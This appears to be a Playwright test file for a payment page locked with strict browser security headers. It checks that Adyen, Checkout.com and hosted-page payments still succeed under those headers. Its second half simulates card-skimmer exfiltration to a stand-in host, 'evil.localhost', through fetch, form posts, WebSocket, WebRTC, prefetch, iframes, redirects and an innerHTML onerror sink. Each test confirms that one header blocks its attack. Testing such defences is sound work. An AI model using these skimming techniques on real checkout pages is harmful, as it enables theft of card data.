/** Payments by every gateway on a page that browsers lock as far as they can, and the attacks that each header stops. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readdirSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import type { Page } from '@playwright/test';
import {
  AdyenForm,
  CheckoutFlowForm,
  HostedPage,
  hostedInFrame,
  paymentFrame,
} from '../../server/customers/page-objects/gateway-forms.ts';
import { NIGHTLY } from '../support/extent.mjs';
import { MerchantPage } from '../support/merchant-page.ts';
import type { SessionOptions } from '../support/merchant-page.ts';
import { frameUrl, SHOP } from '../support/urls.ts';
import { startTestServer } from '../../shared/testing/test-server.ts';
import { lockedHeaders, openLocked, recordedStatus, showLockedPage } from './locked-page.ts';
import { blockedTest, expect, test } from './site.ts';
import type { Site } from './site.ts';

const ASSETS = new URL('../../dist/frame/assets/', import.meta.url);
const DECLINED = [expect.stringMatching(/^error .+ recoverable$/)];

async function open(page: Page, site: Site, options: SessionOptions) {
  const merchant = new MerchantPage(page);
  const session = await openLocked(merchant, showLockedPage(site), options);
  const paid = async () => {
    await expect.poll(() => merchant.reported()).toContain('success');
    expect(await recordedStatus(session)).toBe('captured');
  };
  return { merchant, session, paid };
}

test.describe('a page with all headers, none of which only reports', () => {
  test('the headers are those that lock a page', () => {
    expect(Object.keys(lockedHeaders())).toEqual([
      'Content-Security-Policy',
      'Connection-Allowlist',
      'Integrity-Policy',
      'Permissions-Policy',
    ]);
  });

  for (const [gateway, Form] of [
    ['checkout', CheckoutFlowForm],
    ['adyen', AdyenForm],
  ] as const) {
    test(
      `${gateway} declines a card, and takes the next attempt`,
      { tag: NIGHTLY },
      async ({ page, site }) => {
        const { merchant, paid } = await open(page, site, { gateway, scenario: 'decline' });
        const form = new Form(page);
        await form.payByCard();
        await expect.poll(() => merchant.reported()).toEqual(DECLINED);
        await form.payByCard();
        await paid();
      },
    );

    test(`${gateway} takes a payment after the issuer’s challenge`, async ({ page, site }) => {
      const { paid } = await open(page, site, { gateway, scenario: 'challenge' });
      const form = new Form(page);
      await form.payByCard();
      await form.issuer.confirm();
      await paid();
    });
  }

  test('a bank of Flow is paid in a redirect', async ({ page, site }) => {
    const { session } = await open(page, site, {
      gateway: 'checkout',
      submitTo: 'platform',
      methods: 'all',
    });
    await new CheckoutFlowForm(page).payByBank('iDEAL');
    await payAtTheBank(page, site);
    expect(await recordedStatus(session)).toBe('captured');
  });

  test('a bank of Adyen is paid in a redirect', async ({ page, site }) => {
    const { session } = await open(page, site, { gateway: 'adyen' });
    await new AdyenForm(page).payByIdeal();
    await payAtTheBank(page, site);
    expect(await recordedStatus(session)).toBe('captured');
  });

  test('a hosted page in the frame declines, and takes the next attempt', async ({
    page,
    site,
  }) => {
    const { paid } = await open(page, site, { gateway: 'hosted', scenario: 'decline' });
    const hosted = hostedInFrame(page);
    await hosted.pay();
    await expect(hosted.message).toHaveText(/declined/i);
    await hosted.pay();
    await paid();
  });

  test('a hosted page in the frame takes a payment after the issuer’s challenge', async ({
    page,
    site,
  }) => {
    const { paid } = await open(page, site, { gateway: 'hosted', scenario: 'challenge' });
    const hosted = hostedInFrame(page);
    await hosted.pay();
    await hosted.issuer.confirm();
    await paid();
  });

  test('a hosted page in a pop-up takes a payment', async ({ page, site }) => {
    const { paid } = await open(page, site, { gateway: 'hosted', embedMode: 'popup' });
    const opened = page.waitForEvent('popup');
    await paymentFrame(page).getByRole('button').first().click();
    await new HostedPage(await opened).pay();
    await paid();
  });

  test('a hosted page in the whole window takes a payment', async ({ page, site }) => {
    const { session } = await open(page, site, { gateway: 'redirect' });
    await payAtTheBank(page, site);
    expect(await recordedStatus(session)).toBe('captured');
  });
});

/** Documents of the frames that run a gateway's form, and whether their headers block. */
const FORMS = [
  ['adyen', 'index.html', true],
  ['hosted', 'index.html', true],
  ['checkout', 'index.html', true],
  // Flow's script is from its own host and has no digest.
  ['checkout', 'window.html', false],
] as const;

for (const [gateway, file, blocks] of FORMS) {
  blockedTest(
    `${file} of ${gateway} ${blocks ? 'blocks' : 'only reports'} a script without a digest, and leads to no other host`,
    async ({ page }) => {
      const query = new URLSearchParams({ key: 'pk_test_strict', origin: SHOP });
      const response = await page.goto(`${frameUrl(gateway)}${file}?${query}`);
      const names = Object.keys(response?.headers() ?? {});
      const suffix = blocks ? '' : '-report-only';
      const locks = names.filter((name) => /^(integrity-policy|connection-allow)/.test(name));
      expect(locks.toSorted()).toEqual([
        `connection-allowlist${suffix}`,
        `integrity-policy${suffix}`,
      ]);
    },
  );
}

blockedTest(
  'a frame imports no script that has no digest, and the same frame with scripts of third parties does',
  async ({ page }) => {
    const script = readdirSync(ASSETS).find((name) => /^hosted-[\w-]{8}\.js$/.test(name));
    const url = `${frameUrl('adyen')}assets/${script}`;
    const outcomes: Record<string, boolean> = {};
    for (const key of ['pk_test_strict', 'pk_test_sandbox']) {
      await page.goto(`${frameUrl('adyen')}?${new URLSearchParams({ key, origin: SHOP })}`);
      outcomes[key] = await page.evaluate(
        (specifier) =>
          import(specifier).then(
            () => true,
            () => false,
          ),
        url,
      );
    }
    expect(outcomes).toEqual({ pk_test_strict: false, pk_test_sandbox: true });
  },
);

async function payAtTheBank(page: Page, site: Site): Promise<void> {
  await new HostedPage(page).pay();
  await page.waitForURL(`${site.origin()}/locked?**`);
}

/** What an attacker receives, at hosts that are in no list. */
interface Evil {
  readonly origin: string;
  readonly stunPort: number;
  /** A page of the shop's without any header. */
  readonly without: string;
  readonly received: string[];
}

interface Attack {
  /** The header that stops it, without any other. */
  readonly header: readonly [name: string, value: string];
  /** Resolves when the browser has stopped it. */
  readonly run: (page: Page, evil: Evil) => Promise<unknown>;
}

const locked = lockedHeaders();
const POLICY = ['Content-Security-Policy', locked['Content-Security-Policy'] ?? ''] as const;
const LIST = ['Connection-Allowlist', locked['Connection-Allowlist'] ?? ''] as const;
const DIGESTS = ['Integrity-Policy', locked['Integrity-Policy'] ?? ''] as const;
const TYPES = ['Content-Security-Policy', "require-trusted-types-for 'script'"] as const;

const sendByFetch = (page: Page, { origin }: Evil) =>
  page.evaluate((url) => fetch(`${url}/fetch`, { mode: 'no-cors' }).catch(() => {}), origin);

const submitForm = (page: Page, { origin }: Evil) =>
  page.evaluate((url) => {
    const form = document.createElement('form');
    form.action = `${url}/form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  }, origin);

const connect = (page: Page, stunPort: number) =>
  page.evaluate((port) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('card');
    return peer.setLocalDescription();
  }, stunPort);

/** The browser shows a page of its own in place of one that it does not open. */
const errorPage = (page: Page) =>
  page.waitForEvent('framenavigated', (frame) => frame.url().startsWith('chrome-error:'));

const ATTACKS: Readonly<Record<string, Attack>> = {
  'a skimmer’s fetch: the policy': { header: POLICY, run: sendByFetch },
  'a skimmer’s form: the policy': {
    header: POLICY,
    async run(page, evil) {
      const violation = page.evaluate(
        () => new Promise((done) => addEventListener('securitypolicyviolation', () => done(true))),
      );
      await submitForm(page, evil);
      return violation;
    },
  },
  'a skimmer’s fetch: the list': { header: LIST, run: sendByFetch },
  'a skimmer’s WebSocket: the list': {
    header: LIST,
    run: (page, { origin }) =>
      page.evaluate((url) => {
        const socket = new WebSocket(`${url.replace('http', 'ws')}/socket`);
        return new Promise<void>((done) => socket.addEventListener('error', () => done()));
      }, origin),
  },
  'a skimmer’s WebRTC: the list': {
    header: LIST,
    // The browser does not announce that it sends nothing, so a page without the header shows when it would have.
    async run(page, { stunPort, without }) {
      await connect(page, stunPort);
      const comparison = createSocket('udp4').bind(0, '127.0.0.1');
      await once(comparison, 'listening');
      const seen = once(comparison, 'message');
      const other = await page.context().newPage();
      await other.goto(without);
      await connect(other, comparison.address().port);
      await seen;
      comparison.close();
      await other.close();
    },
  },
  'a skimmer’s form: the list': {
    header: LIST,
    run: (page, evil) => Promise.all([errorPage(page), submitForm(page, evil)]),
  },
  'a prefetch: the list': {
    header: LIST,
    run: (page, { origin }) =>
      page.evaluate((url) => {
        const link = document.createElement('link');
        Object.assign(link, { rel: 'prefetch', href: `${url}/prefetch` });
        document.head.append(link);
        return new Promise<void>((done) => link.addEventListener('error', () => done()));
      }, origin),
  },
  'a frame of another host: the list': {
    header: LIST,
    run: (page, { origin }) =>
      page.evaluate((url) => {
        const frame = document.createElement('iframe');
        frame.src = `${url}/frame`;
        document.body.append(frame);
        // A blocked frame loads as well.
        return new Promise<void>((done) => frame.addEventListener('load', () => done()));
      }, origin),
  },
  'a script that leads away: the list': {
    header: LIST,
    run: (page, { origin }) =>
      Promise.all([
        errorPage(page),
        page.evaluate((url) => void (location.href = `${url}/away`), origin),
      ]),
  },
  'a script of the page’s own host without a digest: the integrity policy': {
    header: DIGESTS,
    run: (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.src = '/changed.js';
        document.head.append(script);
        return new Promise<void>((done) => script.addEventListener('error', () => done()));
      }),
  },
  'a sink: Trusted Types': {
    header: TYPES,
    run: (page, { origin }) =>
      page.evaluate((url) => {
        try {
          document.body.innerHTML = `<img src="data:," onerror="fetch('${url}/sink', { mode: 'no-cors' })">`;
        } catch {
          // As it should.
        }
      }, origin),
  },
};

/** Browsers send nothing by WebRTC where there is no network. */
const HAS_NETWORK = Object.values(networkInterfaces()).some((each) =>
  each?.some(({ internal }) => !internal),
);

for (const [what, { header, run }] of Object.entries(ATTACKS)) {
  blockedTest(`control: ${what} stops it, and nothing else does`, async ({ page, site }) => {
    blockedTest.skip(what.includes('WebRTC') && !HAS_NETWORK, 'This machine has no network');
    const received: string[] = [];
    const stun = createSocket('udp4').on('message', () => received.push('STUN'));
    stun.bind(0, '127.0.0.1');
    await once(stun, 'listening');
    const server = await startTestServer((request, response) => {
      received.push(request.url ?? '');
      response.end();
    });
    server.http.on('upgrade', (request, socket) => {
      received.push(request.url ?? '');
      socket.destroy();
    });
    const origin = `http://evil.localhost:${server.port}`;
    const without = `${site.origin()}/without`;
    const evil = { origin, stunPort: stun.address().port, without, received };
    site.showScript('/changed.js', `fetch('${origin}/script', { mode: 'no-cors' })`);
    const body = '<!doctype html><body>';
    site.show('/alone', { body, headers: Object.fromEntries([header]) });
    site.show('/without', { body });
    await page.goto(`${site.origin()}/alone`);
    await run(page, evil);
    expect(received).toEqual([]);
    await page.goto(without);
    // Its end is that of the page, or no end at all.
    run(page, evil).catch(() => {});
    await expect.poll(() => received.length).toBeGreaterThan(0);
    stun.close();
    await server.close();
  });
}
